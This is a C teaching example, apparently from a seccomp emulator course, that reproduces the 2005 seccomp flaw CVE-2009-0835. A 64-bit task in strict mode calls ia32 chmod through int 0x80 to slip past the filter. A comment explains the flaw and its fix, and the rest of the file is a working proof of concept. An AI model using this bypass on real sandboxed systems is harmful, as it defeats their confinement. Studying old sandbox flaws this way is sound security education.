/* Lesson 5: the 2005 hole (CVE-2009-0835), under --kernel=2.6.11.
 *
 * The original seccomp patch chose the strict list from the task's
 * personality (32- or 64-bit), not from the way the call entered the
 * kernel.  A 64-bit task executing `int $0x80` was therefore checked
 * against the 64-bit list, with ia32 numbers: 15 is rt_sigreturn on x86_64
 * (allowed) but chmod on ia32.  Linux 2.6.29 fixed it by choosing the list
 * per entry.
 *
 * This program turns strict mode on the way each kernel offers (writing "1"
 * to /proc/self/seccomp in 2005, prctl today), then calls ia32 chmod(path,
 * 0777) through `int $0x80`.
 *
 *     seccomp-emu --trace build/examples/cve_2009_0835                  # SIGKILL
 *     seccomp-emu --trace --kernel=2.6.11 build/examples/cve_2009_0835  # status 0
 *
 * Today (and natively) the chmod is killed.  Under --kernel=2.6.11 the trace
 * marks it "ALLOWED (CVE-2009-0835: ia32 chmod checked against the x86_64
 * list)".  seccomp-emu does not emulate chmod, so the call answers -ENOSYS
 * and nothing reaches the host; on a real 2.6.11 kernel the mode of the file
 * would have changed.
 *
 *     seccomp-emu --trace --kernel=2.6.11 build/examples/cve_2009_0835 getpid
 *
 * The hole is only as wide as the x86_64 list: ia32 getpid (20) is not in
 * it, so under 2.6.11 too that call is killed, "not in the x86_64 strict
 * list" although it came through int $0x80. */
#include "guest.h"

#define O_WRONLY_LINUX 1

static const char victim[] = "/tmp/seccomp-emu-cve-2009-0835";

int guest_main(void)
{
#if defined(__x86_64__)
    long fd = guest_syscall3(NR_open_LINUX, (long)"/proc/self/seccomp", O_WRONLY_LINUX, 0);
    if (fd >= 0) {
        if (guest_write((int)fd, "1", 1) != 1)
            return 1;
        guest_puts("strict mode on via /proc/self/seccomp (2005)\n");
    } else {
        if (guest_enter_strict() != 0)
            return 2;
        guest_puts("strict mode on via prctl\n");
    }
    if (guest_streq(guest_arg1(), "getpid"))
        guest_int80(NR32_getpid_LINUX, 0, 0, 0); /* killed by either rule */
    long r = guest_int80(NR32_chmod_LINUX, (long)victim, 0777, 0);
    guest_put_result("ia32 chmod passed the filter, result", r);
    return 0;
#else
    return 4; /* the hole needs a 64-bit task */
#endif
}
